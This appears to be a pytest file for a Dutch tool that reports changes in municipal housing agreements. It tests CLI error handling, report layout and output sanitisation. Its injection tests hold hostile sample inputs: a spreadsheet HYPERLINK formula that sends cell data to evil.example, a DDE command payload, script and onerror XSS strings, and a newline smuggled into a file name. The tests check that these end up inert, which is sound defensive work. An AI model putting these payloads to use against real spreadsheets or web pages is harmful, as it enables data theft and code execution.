"""Issue #22 (the analyst's day) and items 1 and 6 of issue #23: every command in every store state gives one
line and its exit code; the report opens with the Samenvatting in Dutch; spreadsheets and Markdown stay inert.

https://github.com/ (issues #22 and #23 of this project)
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest
from typer.testing import CliRunner

from pipeline.batch.changes import record_changes
from pipeline.batch.ingest import ingest
from pipeline.cli import app
from pipeline.report import load_report, render_html, render_markdown, write_csv, write_xlsx
from pipeline.report.tables import write_parquet
from pipeline.spreadsheet import FORMULA_STARTS, neutralise, restore
from pipeline.store import Pair, open_store, write_comparison, write_document
from pipeline.themes import read_corrections
from pipeline.types import Afspraak, Change, Comparison, Reason

from .test_ingest import corpus_copy
from .test_store import PDF, gold_compare, gold_document, make_document, needs_corpus

runner = CliRunner()


def _extract(path, overrides=None):
    return gold_document(path)


@pytest.fixture(scope="module")
def stores(tmp_path_factory) -> dict[str, Path]:
    """An empty store, a one-year store and a three-year store with changes (gold documents)."""
    if not (PDF / "lindehoven-2021.pdf").exists():
        pytest.skip("corpus not built")
    root = tmp_path_factory.mktemp("states")
    empty = root / "empty.duckdb"
    open_store(empty).close()
    one = root / "one.duckdb"
    ingest([corpus_copy(root / "one", ["lindehoven-2021"])], one, extract_fn=_extract)
    full = root / "full.duckdb"
    ingest([corpus_copy(root / "pdf", ["lindehoven-2021", "lindehoven-2022", "lindehoven-2023",
                                       "lindehoven-bod-2023"])], full, extract_fn=_extract)
    record_changes(full, compare_fn=gold_compare)
    return {"missing": root / "missing.duckdb", "empty": empty, "one": one, "full": full}


def _snapshot(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


COMMANDS = {
    "changes": ["changes"],
    "report-html": ["report", "-o", "{out}/r.html"],
    "report-xlsx": ["report", "-o", "{out}/r.xlsx"],
    "report-md": ["report", "-f", "md", "-o", "{out}/r.md"],
    "report-csv": ["report", "-f", "csv", "--dialect", "nl", "-o", "{out}/csv"],
    "report-parquet": ["report", "-o", "{out}/r.parquet"],
    "documents": ["documents"],
}
# (store, extra arguments, where the output goes) -> the exit code every command gives, with one line.
STATES = {
    "no store": ("missing", [], "ok", 8),
    "empty store": ("empty", [], "ok", 10),
    "one-year store": ("one", [], "ok", None),  # changes: 10 (no pairs); the rest: 0
    "unknown gemeente": ("full", ["--gemeente", "Nergenshuizen"], "ok", 10),
    "unknown year": ("full", ["--year", "2031"], "ok", 10),
    "missing output folder": ("full", [], "missing", 8),
    "read-only output folder": ("full", [], "readonly", 8),
}


@needs_corpus
@pytest.mark.parametrize("state", list(STATES))
@pytest.mark.parametrize("command", list(COMMANDS))
def test_issue_22_every_command_in_every_state_gives_one_line(stores, tmp_path, command, state):
    """No traceback, the documented exit code, one line on stderr, and nothing created or half-written."""
    store_key, extra, where, code = STATES[state]
    if command in ("documents", "changes") and where != "ok":
        pytest.skip("writes no output file")
    if command == "documents" and extra:
        pytest.skip("documents lists everything")
    if where == "readonly" and os.geteuid() == 0:
        pytest.skip("root writes into read-only folders")
    db = tmp_path / "store.duckdb"
    if stores[store_key].exists():
        shutil.copy(stores[store_key], db)
    out = tmp_path / "out"
    if where != "missing":
        out.mkdir()
    if where == "readonly":
        out.chmod(0o500)
    before = _snapshot(tmp_path)
    args = [a.format(out=out) for a in COMMANDS[command]] + ["--db", str(db), *extra]
    result = runner.invoke(app, args)
    if code is None:
        code = 10 if command == "changes" else 0
    if command == "documents" and state == "empty store":
        code = 0
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    assert "Traceback" not in result.output
    assert result.exit_code == code, (result.stdout, result.stderr)
    if code:
        lines = [x for x in result.stderr.splitlines() if x.strip()]
        assert len(lines) == 1 and lines[0].startswith("error: "), result.stderr
        assert _snapshot(tmp_path) == before  # nothing created, nothing half-written
    if state == "unknown gemeente":
        assert "Lindehoven" in result.stderr  # the known ones are listed
    if state == "one-year store" and command == "changes":
        assert "no year pairs in the store yet" in result.stderr


@needs_corpus
def test_issue_22_a_mistyped_input_path_creates_no_store(tmp_path):
    result = runner.invoke(app, ["ingest", str(tmp_path / "inbox-typo"), "--db", str(tmp_path / "a.duckdb")])
    assert result.exit_code == 3 and "no such file" in result.stderr
    assert not (tmp_path / "a.duckdb").exists()


def test_issue_22_ingest_overrides_are_renamed_and_the_old_spelling_says_so(tmp_path):
    result = runner.invoke(app, ["ingest", str(tmp_path), "--gemeente", "Lindehoven"])
    assert result.exit_code == 2 and "--set-gemeente" in result.output
    assert not (tmp_path / "afspraken.duckdb").exists()


def test_issue_22_version_short_help_and_completion():
    assert re.match(r"afspraken \d", runner.invoke(app, ["--version"]).stdout)
    assert "Usage" in runner.invoke(app, ["report", "-h"]).stdout
    assert "--install-completion" in runner.invoke(app, ["--help"]).stdout


@needs_corpus
def test_issue_22_format_follows_the_extension_and_a_conflict_is_an_error(stores, tmp_path):
    result = runner.invoke(app, ["report", "--db", str(stores["full"]), "-o", str(tmp_path / "r.xlsx")])
    assert result.exit_code == 0, result.stderr
    assert zipfile.is_zipfile(tmp_path / "r.xlsx")
    bad = runner.invoke(app, ["report", "--db", str(stores["full"]), "-o", str(tmp_path / "s.xlsx"), "-f", "html"])
    assert bad.exit_code == 2 and not (tmp_path / "s.xlsx").exists()


@needs_corpus
def test_issue_22_report_opens_with_the_samenvatting_in_dutch(stores, tmp_path):
    data = load_report(stores["full"])
    html = render_html(data, report_dir=tmp_path)
    newest = data.changes[(data.changes["new_year"] == 2023) & (data.changes["pair_kind"] == "consecutive")]
    weakened, dropped = (int((newest["status"] == s).sum()) for s in ("weakened", "dropped"))
    body = html[html.index("<body>"):]
    assert body.index("Samenvatting") < body.index("Inhoud") < body.index("Wijzigingen per reeks")
    head = body[:body.index("</table>")]
    assert "2022 → 2023" in head and f'data-status="weakened">{weakened}<' in head
    assert f'data-status="dropped">{dropped}<' in head
    assert "afgezwakt" in head and "vervallen" in head and "weakened<" not in head
    assert "Beschikbaarheid en betaalbaarheid" in html and "beschikbaarheid_betaalbaarheid<" not in html
    english = render_html(data, report_dir=tmp_path, lang="en")
    assert "Summary" in english and "weakened" in english
    # reworded and unchanged are collapsed; no script anywhere
    assert "<script" not in html and re.search(r"<details class=quiet><summary>\d+ geherformuleerd", html)


@needs_corpus
def test_issue_22_status_and_theme_filters(stores, tmp_path):
    out = tmp_path / "r.html"
    result = runner.invoke(app, ["report", "--db", str(stores["full"]), "-o", str(out), "--status", "afgezwakt",
                                 "--theme", "duurzaam"])
    assert result.exit_code == 0, result.stderr
    statuses = re.findall(r'<article class="change (\w+)"', out.read_text(encoding="utf-8"))
    assert statuses and set(statuses) == {"weakened"}


@needs_corpus
def test_issue_22_year_means_changes_into_that_year(stores):
    data = load_report(stores["full"], __import__("pipeline").store.Selection(year_from=2023, year_to=2023))
    pairs = set(zip(data.changes["old_year"], data.changes["new_year"], data.changes["pair_kind"], strict=True))
    assert pairs == {(2022, 2023, "consecutive"), (2023, 2023, "bod")}


@needs_corpus
def test_issue_22_workbook_summary_first_dutch_headers_links_and_parquet(stores, tmp_path):
    data = load_report(stores["full"])
    write_xlsx(data, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    assert book.sheetnames[0] == "samenvatting" and "afgezwakt" in book.sheetnames
    changes = book["wijzigingen"]
    headers = [c.value for c in changes[1]]
    assert "Status" in headers and "Reden" in headers and "Vindplaats" in headers
    assert any(c.hyperlink for c in changes[2]) or changes.max_row == 1
    reasons = [r[headers.index("Reden")] for r in changes.iter_rows(min_row=2, values_only=True) if r[
        headers.index("Reden")]]
    assert reasons and not any(r.startswith("[") for r in reasons)
    written = write_parquet(data, tmp_path / "r.parquet")
    back = duckdb.sql(f"SELECT count(*) FROM '{written[0]}'").fetchall()[0][0]
    assert back == len(data.changes)
    pytest.importorskip("pyarrow")
    assert len(pd.read_parquet(written[0])) == len(data.changes)


@needs_corpus
def test_issue_22_csv_dialect_nl(stores, tmp_path):
    write_csv(load_report(stores["full"]), tmp_path / "csv", dialect="nl")
    raw = (tmp_path / "csv" / "wijzigingen.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.split(b"\n")[0].count(b";") > 5
    frame = pd.read_csv(tmp_path / "csv" / "wijzigingen.csv", sep=";", decimal=",", encoding="utf-8-sig")
    assert frame["gelijkenis"].dropna().between(0, 1).all()


# --- issue #23 items 1 and 6 --------------------------------------------------------------------------------

EVIL = ['=HYPERLINK("http://evil.example/?d="&E2,"klik")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
        "\tgevaar", "\rgevaar"]


def _evil_store(tmp_path: Path) -> Path:
    db = tmp_path / "evil.duckdb"
    old = make_document(tmp_path / "=x.pdf", year=2022, sha="a" * 64)
    new = make_document(tmp_path / "y\n| nep | rij |.pdf", year=2023, sha="b" * 64)
    evil = [Afspraak(id="b" * 12 + f"-9{i}", number=f"={i}", section=None, party="@partij", page=1, text=text,
                     theme="kwaliteit") for i, text in enumerate(EVIL + [
                         '<script>alert(1)</script> <img src=x onerror=alert(2)> ![p](http://evil.example/p.png) '
                         '<iframe src="javascript:alert(3)"></iframe> [klik](javascript:alert(4))'])]
    new = new.__class__(meta=new.meta.__class__(**{**{f: getattr(new.meta, f) for f in new.meta.__slots__},
                                                   "type": "<b>prestatieafspraken</b>"}),
                        afspraken=(*new.afspraken, *evil))
    with open_store(db) as store:
        write_document(store, old)
        write_document(store, new)
        pair = Pair("a" * 12, "b" * 12, "consecutive", "=Gemeente", "Het Lindehof", 2022, 2023)
        reason = Reason("quantity", "=1", "-2", "=uitleg", "weaker")
        write_comparison(store, pair, Comparison(old, new, tuple(Change("weakened", None, a, reasons=(reason,))
                                                                  for a in evil)))
    return db


def test_spreadsheet_formula_injection(tmp_path):
    """Issue #23 item 1: no text cell in any spreadsheet output is a formula or starts like one."""
    data = load_report(_evil_store(tmp_path))
    write_xlsx(data, tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    texts = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
                texts += isinstance(c.value, str) and c.value.startswith(FORMULA_STARTS)
    assert texts  # the texts are there, as strings
    with zipfile.ZipFile(tmp_path / "r.xlsx") as z:
        assert not any("<f>" in z.read(n).decode("utf-8", "replace") for n in z.namelist() if n.endswith(".xml"))
    for dialect in ("excel", "nl"):
        for path in write_csv(data, tmp_path / f"csv-{dialect}", dialect=dialect):
            sep = ";" if dialect == "nl" else ","
            with open(path, encoding="utf-8-sig", newline="") as fh:
                for row in csv.reader(fh, delimiter=sep):
                    for value in row:
                        assert not value.startswith(FORMULA_STARTS), (path.name, value)


def test_spreadsheet_formula_injection_review_corrections_read_back_the_original_text(tmp_path):
    """The review CSV is neutralised, and `train --corrections` reads the original text back."""
    path = tmp_path / "review.csv"
    with open(path, "w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "theme", "text"])
        for text in EVIL:
            writer.writerow([neutralise("x"), "kwaliteit", neutralise(text)])
    with open(path, encoding="utf-8", newline="") as fh:
        assert all(not v.startswith(FORMULA_STARTS) for row in csv.reader(fh) for v in row)
    examples = read_corrections(path)
    assert [e.text for e in examples] == [text.strip() for text in EVIL]
    assert [restore(neutralise(x)) for x in EVIL + ["gewoon", "'quote"]] == EVIL + ["gewoon", "'quote"]


def test_markdown_injection(tmp_path):
    """Issue #23 item 6: every interpolated value in Markdown is inert, and a newline in a file name stays in
    its table row."""
    data = load_report(_evil_store(tmp_path))
    md = render_markdown(data, report_dir=tmp_path)
    for raw in ("<script", "<img", "<iframe", "![", "](javascript:", "<b>", "](http://evil"):
        assert not re.search(r"(?<!\\)" + re.escape(raw), md), raw  # only escaped, inert forms remain
    rows = [line for line in md.splitlines() if line.startswith("| ") and "sha256" not in line]
    assert all(line.rstrip().endswith("|") for line in rows)
    assert not any(line.startswith("| nep |") or line.startswith("rij |") for line in md.splitlines())
    from pipeline.report.comparison import comparison_markdown

    old = make_document(tmp_path / "o.pdf", year=2022, sha="c" * 64)
    evil = Afspraak(id="d" * 12 + "-1", number="<b>1</b>", section="<script>x</script>", party=None, page=1,
                    text="<img src=x onerror=alert(1)> ![a](http://evil.example/a.png)", theme=None)
    text = comparison_markdown(Comparison(old, old, (Change("new", None, evil),)))
    assert not re.search(r"(?<!\\)(<img|!\[|<script)", text)


# --- a real browser ------------------------------------------------------------------------------------------

def _chromium() -> str | None:
    return shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


@needs_corpus
@pytest.mark.skipif(_chromium() is None, reason="no headless Chromium (apt-get install chromium)")
def test_issue_22_the_samenvatting_is_on_the_first_screen_and_every_link_resolves(stores, tmp_path):
    """In headless Chromium at 1366x768: the Samenvatting and its counts sit above the fold; every link
    (in-page anchors and file:// PDF links) points at something that exists."""
    html_path = tmp_path / "report.html"
    html_path.write_text(render_html(load_report(stores["full"]), report_dir=tmp_path), encoding="utf-8")
    probe = tmp_path / "probe.html"
    probe.write_text(html_path.read_text(encoding="utf-8").replace("</body>", """<script>
const s = document.getElementById('samenvatting').getBoundingClientRect();
const t = document.querySelector('table.headline').getBoundingClientRect();
const ids = new Set([...document.querySelectorAll('[id]')].map(e => e.id));
const broken = [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
  .filter(h => h.startsWith('#') && !ids.has(h.slice(1)));
const files = [...new Set([...document.querySelectorAll('a[href^="file:"]')].map(a => a.href.split('#')[0]))];
document.title = JSON.stringify({top: s.top, table_bottom: t.bottom, broken, files});
</script></body>"""), encoding="utf-8")
    result = subprocess.run([_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--window-size=1366,768",
                             "--dump-dom", probe.as_uri()], capture_output=True, text=True, timeout=120)
    match = re.search(r"<title>(\{.*?\})</title>", result.stdout)
    assert match, result.stderr[-2000:]
    found = json.loads(match.group(1).replace("&quot;", '"'))
    assert found["top"] < 200 and found["table_bottom"] < 768, found
    assert found["broken"] == []
    from urllib.parse import unquote, urlparse

    assert found["files"] and all(Path(unquote(urlparse(f).path)).exists() for f in found["files"])
